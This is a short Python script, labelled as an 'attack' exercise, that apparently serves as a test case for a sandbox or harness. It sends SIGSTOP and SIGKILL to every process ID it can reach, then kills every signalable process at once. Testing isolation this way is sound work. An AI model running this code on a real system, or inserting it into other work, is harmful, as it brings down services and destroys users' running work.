# attacks: 01-double
# keeps: 01-dedup 01-setting
# Kills and stops every process that it can see.
# %%
# exercise 01-double
import os, signal
for number in range(1, 70_000):
    if number != os.getpid():
        for sent in (signal.SIGSTOP, signal.SIGKILL):
            try: os.kill(number, sent)
            except OSError: pass
os.kill(-1, signal.SIGKILL)
